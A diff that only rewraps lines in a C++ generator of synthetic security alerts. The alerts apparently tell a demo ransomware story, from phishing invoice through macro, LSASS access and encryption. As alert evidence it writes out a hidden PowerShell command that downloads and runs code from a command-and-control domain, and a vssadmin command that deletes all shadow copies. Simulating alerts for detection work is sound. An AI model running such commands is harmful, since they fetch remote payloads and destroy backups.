@@ -1,4 +1,5 @@
-// A forged invoice opens a document, PowerShell, a beacon; in the night the file server, its shadow copies, its files.
+// A forged invoice opens a document, PowerShell, a beacon; in the night the file server, its shadow copies,
+// its files.
 #include "demo/stories.h"
 
 namespace tocsin::demo {
@@ -37,15 +38,16 @@ void deliver(StoryWriter& story, const Cast& cast) {
   story.send(defender(
       scene, {.at = story.at(),
               .title = "Email messages containing malicious file delivered",
-              .description = "A message with the attachment " + cast.document + " was delivered to " + cast.victim.email +
-                             " and identified as malicious after delivery.",
+              .description = "A message with the attachment " + cast.document + " was delivered to " +
+                             cast.victim.email + " and identified as malicious after delivery.",
               .category = "InitialAccess",
               .severity = "medium",
               .service = "microsoftDefenderForOffice365",
               .techniques = {attack::kSpearphishing},
               .evidence = {mail_evidence(scene, {"accounting@nordwind-freight-billing.com", cast.sender_ip,
                                                  cast.victim.email, "Overdue invoice - final reminder"}),
-                           file_evidence("", cast.document, cast.document_hash), user_evidence(scene, cast.victim)}}));
+                           file_evidence("", cast.document, cast.document_hash),
+                           user_evidence(scene, cast.victim)}}));
 }
 
 void open_document(StoryWriter& story, const Cast& cast) {
@@ -53,29 +55,31 @@ void open_document(StoryWriter& story, const Cast& cast) {
   const auto folder = "C:\\Users\\" + cast.victim.login + "\\Downloads";
   story.after(minutes(17));
   story.send(defender(
-      scene, {.at = story.at(),
-              .title = "Office application ran a macro from a document that came by mail",
-              .description = "WINWORD.EXE on " + cast.workstation.name + " ran macro code of " + cast.document + ".",
-              .category = "Execution",
-              .severity = "medium",
-              .techniques = {attack::kMaliciousFile},
-              .evidence = {device_evidence(cast.workstation), user_evidence(scene, cast.victim),
-                           file_evidence(folder, cast.document, cast.document_hash)}}));
+      scene,
+      {.at = story.at(),
+       .title = "Office application ran a macro from a document that came by mail",
+       .description = "WINWORD.EXE on " + cast.workstation.name + " ran macro code of " + cast.document + ".",
+       .category = "Execution",
+       .severity = "medium",
+       .techniques = {attack::kMaliciousFile},
+       .evidence = {device_evidence(cast.workstation), user_evidence(scene, cast.victim),
+                    file_evidence(folder, cast.document, cast.document_hash)}}));
   const auto script = "IEX (New-Object Net.WebClient).DownloadString('http://" + cast.c2_domain + "/a/" +
                       story.random().hex(6) + "')";
   story.after(seconds(40));
   story.send(defender(
-      scene, {.at = story.at(),
-              .title = "Suspicious PowerShell command line",
-              .description = "A PowerShell process with an encoded command was started by an Office application.",
-              .category = "Execution",
-              .severity = "high",
-              .techniques = {attack::kPowerShell},
-              .evidence = {device_evidence(cast.workstation), user_evidence(scene, cast.victim),
-                           process_evidence(scene, cast.workstation, &cast.victim,
-                                            {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
-                                             "powershell.exe -nop -w hidden -enc " + encoded_command(script),
-                                             "WINWORD.EXE", story.random().hex(64)})}}));
+      scene,
+      {.at = story.at(),
+       .title = "Suspicious PowerShell command line",
+       .description = "A PowerShell process with an encoded command was started by an Office application.",
+       .category = "Execution",
+       .severity = "high",
+       .techniques = {attack::kPowerShell},
+       .evidence = {device_evidence(cast.workstation), user_evidence(scene, cast.victim),
+                    process_evidence(scene, cast.workstation, &cast.victim,
+                                     {"powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+                                      "powershell.exe -nop -w hidden -enc " + encoded_command(script),
+                                      "WINWORD.EXE", story.random().hex(64)})}}));
 }
 
 void beacon(StoryWriter& story, const Cast& cast) {
@@ -98,22 +102,23 @@ void beacon(StoryWriter& story, const Cast& cast) {
 
 void dump_credentials(StoryWriter& story, const Cast& cast) {
   auto scene = story.scene();
-  story.send(wazuh(scene, {.at = story.at(),
-                           .level = 12,
-                           .rule_id = "92900",
-                           .description = "Lsass process was accessed by rundll32.exe with read permissions, possible "
-                                          "credential dump",
-                           .groups = {"sysmon", "sysmon_eid10_detections", "windows"},
-                           .agent = &cast.workstation,
-                           .decoder = "windows_eventchannel",
-                           .location = "EventChannel",
-                           .data = windows_event(scene, cast.workstation, 10, "Microsoft-Windows-Sysmon/Operational",
-                                                 story.at(),
-                                                 {{"sourceImage", "C:\\Windows\\System32\\rundll32.exe"},
-                                                  {"targetImage", "C:\\Windows\\System32\\lsass.exe"},
-                                                  {"grantedAccess", "0x1010"},
-                                                  {"sourceUser", story.company().netbios + '\\' + cast.victim.login}}),
-                           .techniques = {attack::kLsass}}));
+  story.send(wazuh(
+      scene,
+      {.at = story.at(),
+       .level = 12,
+       .rule_id = "92900",
+       .description = "Lsass process was accessed by rundll32.exe with read permissions, possible "
+                      "credential dump",
+       .groups = {"sysmon", "sysmon_eid10_detections", "windows"},
+       .agent = &cast.workstation,
+       .decoder = "windows_eventchannel",
+       .location = "EventChannel",
+       .data = windows_event(scene, cast.workstation, 10, "Microsoft-Windows-Sysmon/Operational", story.at(),
+                             {{"sourceImage", "C:\\Windows\\System32\\rundll32.exe"},
+                              {"targetImage", "C:\\Windows\\System32\\lsass.exe"},
+                              {"grantedAccess", "0x1010"},
+                              {"sourceUser", story.company().netbios + '\\' + cast.victim.login}}),
+       .techniques = {attack::kLsass}}));
 }
 
 void move_to_file_server(StoryWriter& story, const Cast& cast, const Person& admin) {
@@ -142,45 +147,47 @@ void move_to_file_server(StoryWriter& story, const Cast& cast, const Person& adm
 
 void encrypt(StoryWriter& story, const Cast& cast, const Person& admin) {
   auto scene = story.scene();
-  story.send(defender(
-      scene, {.at = story.at(),
-              .title = "Backup and shadow copies were deleted",
-              .description = "vssadmin.exe deleted all volume shadow copies on " + cast.file_server.name +
-                             ", as ransomware does before it encrypts.",
-              .category = "Impact",
-              .severity = "high",
-              .techniques = {attack::kInhibitRecovery},
-              .evidence = {device_evidence(cast.file_server), user_evidence(scene, admin),
-                           process_evidence(scene, cast.file_server, &admin,
-                                            {"vssadmin.exe", "C:\\Windows\\System32",
-                                             "vssadmin.exe delete shadows /all /quiet", "cmd.exe",
-                                             story.random().hex(64)})}}));
+  story.send(
+      defender(scene, {.at = story.at(),
+                       .title = "Backup and shadow copies were deleted",
+                       .description = "vssadmin.exe deleted all volume shadow copies on " +
+                                      cast.file_server.name + ", as ransomware does before it encrypts.",
+                       .category = "Impact",
+                       .severity = "high",
+                       .techniques = {attack::kInhibitRecovery},
+                       .evidence = {device_evidence(cast.file_server), user_evidence(scene, admin),
+                                    process_evidence(scene, cast.file_server, &admin,
+                                                     {"vssadmin.exe", "C:\\Windows\\System32",
+                                                      "vssadmin.exe delete shadows /all /quiet", "cmd.exe",
+                                                      story.random().hex(64)})}}));
   const auto path = "d:\\shares\\finance\\2026\\ledger_" + story.random().digits(4) + ".xlsx.nmlock";
   story.after(minutes(4));
-  story.send(wazuh(scene, {.at = story.at(),
-                           .level = 15,
-                           .rule_id = "100620",
-                           .description = "Ransomware: more than 200 files renamed to one unknown extension in a minute",
-                           .groups = {"syscheck", "ransomware", "local"},
-                           .agent = &cast.file_server,
-                           .decoder = "syscheck_integrity_changed",
-                           .location = "syscheck",
-                           .full_log = "File '" + path + "' added\nMode: realtime\n",
-                           .syscheck = {{"path", path},
-                                        {"event", "added"},
-                                        {"mode", "realtime"},
-                                        {"uname_after", admin.login},
-                                        {"sha256_after", story.random().hex(64)}},
-                           .techniques = {attack::kEncryption}}));
+  story.send(wazuh(
+      scene, {.at = story.at(),
+              .level = 15,
+              .rule_id = "100620",
+              .description = "Ransomware: more than 200 files renamed to one unknown extension in a minute",
+              .groups = {"syscheck", "ransomware", "local"},
+              .agent = &cast.file_server,
+              .decoder = "syscheck_integrity_changed",
+              .location = "syscheck",
+              .full_log = "File '" + path + "' added\nMode: realtime\n",
+              .syscheck = {{"path", path},
+                           {"event", "added"},
+                           {"mode", "realtime"},
+                           {"uname_after", admin.login},
+                           {"sha256_after", story.random().hex(64)}},
+              .techniques = {attack::kEncryption}}));
   story.after(minutes(3));
-  story.send(sentinel(scene, {.at = story.at(),
-                              .name = "Possible ransomware activity detected on a file server",
-                              .description = "Files of many users were rewritten on " + cast.file_server.name +
-                                             " shortly after its shadow copies were deleted.",
-                              .severity = "High",
-                              .techniques = {attack::kEncryption},
-                              .entities = {sentinel_host(story.company(), cast.file_server),
-                                           sentinel_account(story.company(), admin)}}));
+  story.send(
+      sentinel(scene, {.at = story.at(),
+                       .name = "Possible ransomware activity detected on a file server",
+                       .description = "Files of many users were rewritten on " + cast.file_server.name +
+                                      " shortly after its shadow copies were deleted.",
+                       .severity = "High",
+                       .techniques = {attack::kEncryption},
+                       .entities = {sentinel_host(story.company(), cast.file_server),
+                                    sentinel_account(story.company(), admin)}}));
 }
 
 }  // namespace
